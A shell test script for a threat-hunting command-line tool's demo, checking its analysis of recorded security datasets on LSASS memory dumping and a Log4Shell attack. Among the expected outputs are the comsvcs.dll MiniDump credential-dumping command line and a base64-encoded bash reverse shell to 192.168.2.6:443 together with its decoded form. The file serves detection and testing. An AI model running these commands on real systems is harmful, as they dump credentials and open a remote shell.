#!/bin/sh
# tests/cli/test_cli_demo.sh -- `huntkit demo` over the bundled OTRF data.
# Expected values from Python over the recordings (zipfile + json):
# 16 (Channel, EventID) groups in the LSASS recording, Sysmon 10 x68 the
# largest; the MiniDump command line on rows 16 (Sysmon 1) and 106 (4688);
# 2 Sysmon 10 accesses to lsass.exe from rundll32 (0x1410, 0x1fffff); 184
# events from 07:49:39 to 07:50:09; 3 firewall connections 192.168.2.5 ->
# 168.63.129.16:80; in the Log4Shell AUOMS rows, pid 17790 (bash -c with
# base64) and its children 17793 (base64 -d) and 17794 (bash -i); the
# payload decodes to a reverse shell to 192.168.2.6:443.
. "$HK_SRCDIR/tests/lib.sh"
DEMO="$HK_SRCDIR/demo"
CONF="$T/xdg/huntkit/demo"
export XDG_CACHE_HOME="$T/xdg"

HUNTKIT_DATADIR="$HK_SRCDIR" hk demo
is "$rc" 0 "demo exits 0"
is "$err" "" "nothing on stderr"
is "$(printf '%s\n' "$out" | head -3)" "huntkit demo: hunting an LSASS memory dump (comsvcs.dll MiniDump) and a Log4Shell reverse shell
Data:   OTRF Security-Datasets (MIT licence), $DEMO
Config: $CONF (otrf:demo, ti_feed:demo)" "header names the data and the demo's config"
like "$out" "
1. Find a recording of LSASS dumping in the OTRF index
   ATT&CK T1003.001 (LSASS memory); the bundled cache works offline.
   \$ huntkit --config $CONF run 'otrf:demo technique=T1003.001 | select id, title, techniques, cached'

id                  title                              techniques  cached
------------------  ---------------------------------  ----------  ------
SDWIN-201018195009  Lsass Memory Dump via Comsvcs.dll  T1003.001        1
(1 row)" "section 1: the OTRF index, offline"
like "$out" "Microsoft-Windows-Sysmon/Operational       10     68" "section 2: Sysmon 10 is the largest group"
like "$out" "Security                                 4688      1
(16 rows)" "section 2 has 16 groups"
like "$out" "         16  rundll32_comsvcs_minidump  T1003.001   rundll32.exe\" C:\\windows\\System32\\comsvcs.dll MiniDump
        106  rundll32_comsvcs_minidump  T1003.001   rundll32.exe\" C:\\windows\\System32\\comsvcs.dll MiniDump" "section 3: the cmdline rule on both events"
like "$out" "C:\\Windows\\System32\\rundll32.exe  0x1fffff           1" "section 4: the query finds all access from rundll32"
like "$out" "\`-- rundll32.exe [4824]" "section 5: rundll32 in the process tree"
like "$out" "TimeCreated: 184 events in 2 groups, 2020-10-18 07:49:39 – 2020-10-18 07:50:09 UTC" "section 6: the timeline covers every event"
like "$out" "high           windows_path  C:\\Users\\wardog\\AppData\\Local\\Temp\\lsass-comsvcs.dmp                  3" "section 7: the dump file is a TI hit"
like "$out" "(8 rows)" "section 7: eight listed indicators found"
like "$out" "192.168.2.5    168.63.129.16  80            3  global" "section 8: connections classified by iptype"
unlike "$out" "geolocated" "no GeoIP section without a GeoIP configuration"
like "$out" "17790   1340  1001  /bin/bash        bash -c \"{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}\"" "section 9: the reverse shell from auditd"
like "$out" "bash -i >& /dev/tcp/192.168.2.6/443 0>&1\\n  ipv4     192.168.2.6" "section 10: payload decoded, address extracted"
like "$out" "
Next: " "closing hint"
is "$(sed -n 's/^    - //p' "$CONF/conf.d/ti_feed.yaml")" "$DEMO/ti_feed/demo_indicators.csv" "ti_feed instance points at the bundled list"

# The printed commands rerun as they are.
cmd=$(printf '%s\n' "$out" | sed -n "s/^   \$ huntkit --config [^ ]* run '\(.*count by SourceImage.*\)'\$/\1/p")
hk --config "$CONF" run -o csv "$cmd"
is "$out" 'SourceImage,GrantedAccess,count
C:\Windows\System32\rundll32.exe,0x1410,1
C:\Windows\System32\rundll32.exe,0x1fffff,1' "a printed command reruns"

# With the user's GeoIP instance (MaxMind's test database) the demo adds it.
mkdir -p "$T/user/conf.d"
printf 'plugin: geoip_maxmind\ninstance: geo\nconfig:\n  city_db: %s\n  max_age: 0\n' \
  "$HK_SRCDIR/tests/data/maxmind/GeoLite2-City-Test.mmdb" >"$T/user/conf.d/geo.yaml"
HUNTKIT_DATADIR="$HK_SRCDIR" hk --config "$T/user" demo
is "$rc" 0 "demo with a GeoIP config exits 0"
like "$out" "Config: $CONF (otrf:demo, ti_feed:demo, your GeoIP instance)" "header mentions the GeoIP instance"
like "$out" "...and geolocated (your GeoIP configuration)" "GeoIP section shown"
like "$out" "geoip_maxmind:geo column=DestAddress" "GeoIP section uses the user's instance"
HUNTKIT_DATADIR="$HK_SRCDIR" hk demo
unlike "$out" "geolocated" "the copied GeoIP config does not outlive the user's"

# Without HUNTKIT_DATADIR the source tree is found (uninstalled build).
HUNTKIT_DATADIR="$T" hk demo
is "$rc" 0 "falls back past an empty HUNTKIT_DATADIR"

# A reader that goes away ends the demo quietly.
{ HUNTKIT_DATADIR="$HK_SRCDIR" "$HUNTKIT" demo 2>"$T/err"; echo $? >"$T/rc"; } | head -2 >/dev/null
is "$(cat "$T/rc")" 0 "demo | head exits 0"

done_testing
